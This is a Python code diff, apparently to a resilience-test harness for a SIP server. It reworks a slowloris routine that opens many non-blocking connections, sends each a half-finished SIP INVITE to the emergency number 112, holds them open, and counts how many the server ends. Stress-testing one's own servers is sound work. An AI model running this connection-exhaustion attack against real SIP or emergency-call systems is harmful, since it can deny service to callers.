@@ -9,8 +9,10 @@ from __future__ import annotations
 
 import asyncio
 import collections
+import contextlib
 import json
 import secrets
+import select
 import socket
 import sys
 import time
@@ -21,6 +23,9 @@ ROOT = Path(__file__).parents[2]
 TICK_SECONDS = 0.01
 BURST_SECONDS_MAX = 0.05
 LAST_ANSWERS_SECONDS = 0.5
+OPENING_MAX = 100  # connections asked for and not yet taken up
+OPENING_FACTOR = 6  # so many times its seconds an attack may take to open what it wants
+LAST_LOOK_SECONDS = 2.0  # the node has looked several times by then
 SDP = "v=0\r\no=- 1 1 IN IP4 {here}\r\ns=-\r\nc=IN IP4 {here}\r\nt=0 0\r\nm=audio 40000 RTP/AVP 8\r\n"
 
 
@@ -65,28 +70,41 @@ def flood(kind: str, target: str, here: str, rate: int, seconds: float) -> dict[
 
 
 def slowloris(target: str, here: str, rate: int, seconds: float) -> dict[str, int]:
-    """Open connections, say half a message on each, and wait; how many were opened, and ended by the other side."""
+    """Open connections, say half a message on each, and wait; how many were opened, and ended by the other side.
+
+    It stops at ``rate * seconds`` connections, or after OPENING_FACTOR times as long: a stack that takes up its
+    connections one by one, on a busy machine, is not to be hurried. Then it looks once more at which still stand.
+    """
     host, _, port = target.partition(":")
-    began, opened = time.monotonic(), list[socket.socket]()
-    while (elapsed := time.monotonic() - began) < seconds:
-        while len(opened) < elapsed * rate:
+    began, wanted = time.monotonic(), int(rate * seconds)
+    half = b"INVITE sip:112@h SIP/2.0\r\nVia: "
+    opening, opened = list[socket.socket](), list[socket.socket]()
+    while len(opened) < wanted and (elapsed := time.monotonic() - began) < seconds * OPENING_FACTOR:
+        while len(opening) < OPENING_MAX and len(opened) + len(opening) < min(elapsed * rate, wanted):
             place = socket.socket()
-            place.settimeout(2.0)
+            place.setblocking(False)
             place.bind((here, 0))
-            place.connect((host, int(port)))
-            place.send(b"INVITE sip:112@h SIP/2.0\r\nVia: ")
-            opened.append(place)
+            place.connect_ex((host, int(port)))
+            opening.append(place)
+        _, through, _ = select.select([], opening, [], TICK_SECONDS)
+        for place in through:
+            opening.remove(place)
+            if place.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
+                opened.append(place)
+                with contextlib.suppress(OSError):  # ended already
+                    place.send(half)
         time.sleep(TICK_SECONDS)
-    ended = 0
-    for place in opened:
-        place.setblocking(False)
-        try:
-            ended += place.recv(1) == b""
-        except BlockingIOError:
-            continue
-        except OSError:
-            ended += 1
-    return {"opened": len(opened), "ended": ended}
+    time.sleep(LAST_LOOK_SECONDS)
+    return {"opened": len(opened), "ended": sum(map(_is_ended, opened))}
+
+
+def _is_ended(place: socket.socket) -> bool:
+    try:
+        return place.recv(1) == b""
+    except BlockingIOError:
+        return False
+    except OSError:
+        return True
 
 
 def _collect(sender: socket.socket, answers: collections.Counter[str], seen: set[bytes]) -> None:
